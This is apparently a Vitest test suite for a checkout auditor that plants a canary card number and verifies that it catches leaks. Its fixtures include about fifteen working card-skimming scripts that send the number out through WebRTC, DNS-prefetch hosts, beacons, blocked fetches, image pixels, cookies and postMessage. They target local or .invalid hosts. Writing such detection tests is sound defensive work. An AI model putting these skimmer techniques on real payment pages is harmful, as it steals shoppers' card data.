import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditPage } from '../../src/audit/audit.js';
import type { CanaryResult } from '../../src/audit/canary/canary.js';
import type { Browser } from '../../src/audit/browser/driver.js';
import { cleanShop, TOKENIZER, type ShopScript } from './shop.js';
import { elementScript, browserAndSite, type Site } from './site.js';

let browser: Browser;
let site: Site;

browserAndSite((started, shop) => ([browser, site] = [started, shop]));

/** The clean shop with `skimmer` as one more script, audited with the canary. */
async function canary(skimmers: ShopScript[]): Promise<CanaryResult> {
  cleanShop(site, skimmers);
  const run = await auditPage(browser, {
    url: `${site.origin}/checkout`,
    canary: true,
    integrityFile: 'dist/integrity.json',
  });
  return run.canary!;
}

/** Each leak as `where: form`, the form being how the card was written. */
const leaks = (result: CanaryResult) =>
  result.leaks.map(
    ({ where, message }) =>
      `${where}: ${message.replace("the canary's card left the element: ", '')}`,
  );
const seen = (result: CanaryResult, channel: RegExp) =>
  result.channels.find((entry) => channel.test(entry.channel))!;

/** Runs the skimmer's body once the shopper submits, with `number` the digits typed. */
const onSubmit = (body: string) => `document.addEventListener('submit', () => {
  const input = document.querySelector('card-tokenizer input[autocomplete="cc-number"]');
  const number = input.value.replace(/\\D/g, '');
  ${body}
}, { capture: true, once: true });`;

/** Skimmers, each with the leak that names it and the channel that counts it. */
const SKIMMERS: [name: string, skimmer: string, leak: RegExp, channel: RegExp][] = [
  [
    'the number as a TURN user name',
    onSubmit(
      `new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number, credential: 'x' }] });`,
    ),
    /^WebRTC RTCPeerConnection ICE servers in http:.*: card number, plain/,
    /^WebRTC: ICE servers/,
  ],
  [
    'the number in setConfiguration, in base64',
    onSubmit(`const peer = new RTCPeerConnection();
peer.setConfiguration({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: 'u', credential: btoa(number) }] });`),
    /^WebRTC setConfiguration ICE servers in .*: base64 of card number, plain/,
    /^WebRTC: ICE servers/,
  ],
  [
    'the number on a data channel between two peers of the page',
    onSubmit(`const a = new RTCPeerConnection();
const b = new RTCPeerConnection();
a.onicecandidate = ({ candidate }) => candidate && b.addIceCandidate(candidate);
b.onicecandidate = ({ candidate }) => candidate && a.addIceCandidate(candidate);
const channel = a.createDataChannel('x');
channel.onopen = () => channel.send(number.replace(/(\\d{4})(?=\\d)/g, '$1-'));
a.createOffer().then((offer) => a.setLocalDescription(offer))
  .then(() => b.setRemoteDescription(a.localDescription))
  .then(() => b.createAnswer()).then((answer) => b.setLocalDescription(answer))
  .then(() => a.setRemoteDescription(b.localDescription));`),
    /^WebRTC data channel "x" send in .*: card number, with separators/,
    /^WebRTC data channel sends/,
  ],
  [
    'a dns-prefetch host made of the digits',
    onSubmit(`const link = document.createElement('link');
link.rel = 'dns-prefetch';
link.href = '//' + number + '.skim.invalid';
document.head.append(link);`),
    /^<link rel="dns-prefetch .*\d{16}\.skim\.invalid.*: card number, plain/,
    /^DNS-only hints/,
  ],
  [
    'a preconnect host made of the digits, dotted',
    onSubmit(`const link = document.createElement('link');
link.rel = 'preconnect';
link.href = 'https://' + number.replace(/(\\d{4})(?=\\d)/g, '$1.') + '.skim.invalid';
document.head.append(link);`),
    /^DOM in .*<link> added to <head>: card number, with separators/,
    /^DOM writes/,
  ],
  [
    'the digits in an attribute of the page',
    onSubmit(`document.body.dataset.ref = btoa(number);`),
    /^DOM in .*<body> data-ref: base64 of card number, plain/,
    /^DOM writes/,
  ],
  [
    'the number in two halves by two beacons',
    onSubmit(`navigator.sendBeacon('/half-1', number.slice(0, 8));
navigator.sendBeacon('/half-2', number.slice(8));`),
    /^request POST .*\/half-2: digits after the first 8, plain/,
    /^requests made/,
  ],
  [
    'a request the CSP blocks',
    onSubmit(
      `fetch('http://127.0.0.2:8080/collect', { method: 'POST', body: JSON.stringify({ n: number }) }).catch(() => {});`,
    ),
    /^fetch POST http:\/\/127\.0\.0\.2:8080\/collect in .*, never sent: refused by the browser: card number, plain/,
    /^fetch and XMLHttpRequest/,
  ],
  [
    'a binary XMLHttpRequest the CSP blocks',
    onSubmit(`const request = new XMLHttpRequest();
request.open('POST', 'http://127.0.0.2:8080/xhr');
request.send(new TextEncoder().encode('pan=' + number.slice(8)));`),
    /^XMLHttpRequest POST http:\/\/127\.0\.0\.2:8080\/xhr in .*, never sent: refused by the browser: digits after the first 8, plain/,
    /^fetch and XMLHttpRequest/,
  ],
  [
    'an image the CSP blocks, as the browser refused it',
    onSubmit(`new Image().src = 'http://127.0.0.2:8080/refused.gif?d=' + number.slice(8);`),
    /^request GET http:\/\/127\.0\.0\.2:8080\/refused\.gif\?d=\d{8} refused by the browser \(csp\): digits after the first 8, plain/,
    /^requests refused/,
  ],
  [
    'an image the CSP blocks',
    onSubmit(`new Image().src = 'http://127.0.0.2:8080/pixel.gif?d=' + btoa(number);`),
    /^request to http:\/\/127\.0\.0\.2:8080\/pixel\.gif\?d=.* blocked by the CSP's img-src in .*: base64 of card number, plain/,
    /^CSP violations/,
  ],
  [
    'a cookie',
    onSubmit(`document.cookie = 'basket=' + btoa(number) + '; path=/';`),
    /^cookie basket of 127\.0\.0\.1: base64 of card number, plain/,
    /^the browser's cookies/,
  ],
  [
    'a console write',
    onSubmit(`console.error('card', number.replace(/(\\d{4})(?=\\d)/g, '$1 '));`),
    /^console: card number, with separators/,
    /^console messages/,
  ],
  [
    'a MessagePort',
    onSubmit(`const { port1 } = new MessageChannel();
port1.postMessage({ pan: number });`),
    /^MessagePort\.postMessage in .*: card number, plain/,
    /^postMessage/,
  ],
  [
    "a TURN user name from a fresh frame's RTCPeerConnection",
    onSubmit(`const frame = document.createElement('iframe');
document.body.append(frame);
new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:3478', username: number.replace(/(\\d{4})(?=\\d)/g, '$1 '), credential: 'x' }] });`),
    /^WebRTC RTCPeerConnection ICE servers in about:blank: card number, with separators/,
    /^WebRTC: ICE servers/,
  ],
];

describe('card-tokenizer-audit --canary, every way out', () => {
  it('passes a clean page whose element looks the BIN up, and names that lookup', async () => {
    const lookup = `const host = document.querySelector('card-tokenizer');
host.binLookup = (bin, signal) =>
  fetch('/bin.json', { method: 'POST', body: JSON.stringify({ Type: 'BIN', Bin: bin }), signal })
    .then((response) => response.json());`;
    cleanShop(site, [
      { path: '/network-choice.js', body: readFileSync('dist/network-choice.js', 'utf8') },
      { path: '/lookup.js', body: lookup },
    ]);
    site.files.set(
      '/checkout',
      site.files.get('/checkout')!.replace('<card-tokenizer ', '<card-tokenizer network-choice '),
    );
    site.files.set('/bin.json', '["CB","VISA"]');
    // The page the payment leads to: a form post answered 204 leaves the page's clock unable to jump.
    site.files.set('/pay', '<!doctype html><html lang="en"><title>Thank you</title></html>');
    const run = await auditPage(browser, {
      url: `${site.origin}/checkout`,
      canary: true,
      integrityFile: 'dist/integrity.json',
    });
    const result = run.canary!;
    expect(leaks(result)).toEqual([]);
    expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
    expect(result.binLookups).toEqual([`POST ${site.origin}/bin.json`]);
    // Every channel is listed, and the busy ones show the canary watched them.
    expect(result.channels.map(({ channel }) => channel)).toHaveLength(18);
    expect(result.channels.every(({ leaks }) => leaks === 0)).toBe(true);
    expect(seen(result, /^requests made/).seen).toBeGreaterThan(3);
    expect(seen(result, /^DOM writes/).seen).toBeGreaterThan(0);
    // The checkout after the stay, as the shopper paid, and the page left from.
    expect(seen(result, /^final DOM/).seen).toBe(3);
    expect(result.leftFrom).toBe(`${site.origin}/pay`);
  });

  describe('skimmers, each its own script, in one page', () => {
    let result: CanaryResult;
    beforeAll(async () => {
      result = await canary(
        SKIMMERS.map(([, body], index) => ({ path: `/skimmer-${index}.js`, body })),
      );
    });

    it("still stops the element's request alone", () => {
      expect(result.tokenizationRequest).toBe('http://127.0.0.1:9/tokenize');
    });

    it.each(SKIMMERS)('catches %s', (_name, _skimmer, expected, channel) => {
      expect(
        leaks(result).some((leak) => expected.test(leak)),
        leaks(result).join('\n'),
      ).toBe(true);
      expect(seen(result, channel).leaks).toBeGreaterThan(0);
    });
  });
});

describe('card-tokenizer-audit --canary, the card in a frame', () => {
  /** A checkout whose card fields live in a frame of `frameOrigin`, with `skimmer` in that frame. */
  async function inFrame(frameOrigin: string, skimmer = '') {
    serveFrame(skimmer);
    site.files.set(
      '/checkout',
      `<!doctype html><html lang="en"><title>Checkout</title>
<iframe src="${frameOrigin}/card-frame.html" title="Card"></iframe></html>`,
    );
    return auditInFrame();
  }

  /** The frame's page: the element (in its own form unless `form` is false), and `skimmer`. */
  function serveFrame(skimmer: string, form = true) {
    site.files.clear();
    site.headers = {};
    site.files.set('/card-tokenizer.iife.js', elementScript());
    site.files.set('/skimmer.js', skimmer);
    site.files.set(
      '/card-frame.html',
      `<!doctype html><html lang="en"><title>Card</title>
<script src="/card-tokenizer.iife.js" defer></script><script src="/skimmer.js" defer></script>
${form ? '<form>' : ''}<card-tokenizer card-registration-url="${TOKENIZER}/tokenize" access-key="key" preregistration-data="data" card-type="CB_VISA_MASTERCARD"></card-tokenizer>
${form ? '<button type="submit">Pay</button></form>' : ''}</html>`,
    );
  }

  /** The audit with the canary, on a checkout whose card is in a frame. */
  async function auditInFrame() {
    const run = await auditPage(browser, {
      url: `${site.origin}/checkout`,
      canary: true,
      integrityFile: 'dist/integrity.json',
      timeoutMs: 10_000,
    });
    return run.canary!;
  }

  it.each([
    ['a same-origin frame', () => site.origin],
    // Another site than 127.0.0.1: the frame runs in a process of its own.
    ['a cross-origin frame', () => site.origin.replace('127.0.0.1', 'localhost')],
  ])('types the card in %s, and watches the frame', async (_name, origin) => {
    const clean = await inFrame(origin());
    expect(clean.cardFrame).toBe(`${origin()}/card-frame.html`);
    expect(clean.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
    expect(leaks(clean)).toEqual([]);

    const skimmed = await inFrame(
      origin(),
      onSubmit(`parent.postMessage(btoa(number), '*');
navigator.sendBeacon('/frame-beacon', number);`),
    );
    expect(skimmed.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
    expect(leaks(skimmed)).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^postMessage received by .*\/checkout from .*: base64 of card number, plain$/,
        ),
        expect.stringMatching(/^request POST .*\/frame-beacon: card number, plain$/),
      ]),
    );
  });

  it("submits the page's form when the frame is inside it, in another element's shadow root", async () => {
    const origin = site.origin.replace('127.0.0.1', 'localhost');
    // What an isolated card frame does: the page's submit asks the frame to tokenize.
    serveFrame(
      `const host = document.querySelector('card-tokenizer');
addEventListener('message', ({ data }) => data === 'tokenize' && host.tokenize().catch(() => {}));`,
      false,
    );
    site.files.set(
      '/checkout',
      `<!doctype html><html lang="en"><title>Checkout</title>
<form><input type="email" name="email" required><card-frame-host></card-frame-host><button type="submit">Pay</button></form>
<script>
let cardFrame;
customElements.define('card-frame-host', class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: 'closed' });
    root.innerHTML = '<iframe src="${origin}/card-frame.html" title="Card"></iframe>';
    cardFrame = root.querySelector('iframe');
  }
});
const form = document.querySelector('form');
form.addEventListener('submit', (event) => {
  event.preventDefault();
  cardFrame.contentWindow.postMessage('tokenize', '*');
});
</script></html>`,
    );
    const result = await auditInFrame();
    expect(result.cardFrame).toBe(`${origin}/card-frame.html`);
    expect(result.tokenizationRequest).toBe(`${TOKENIZER}/tokenize`);
  });
});
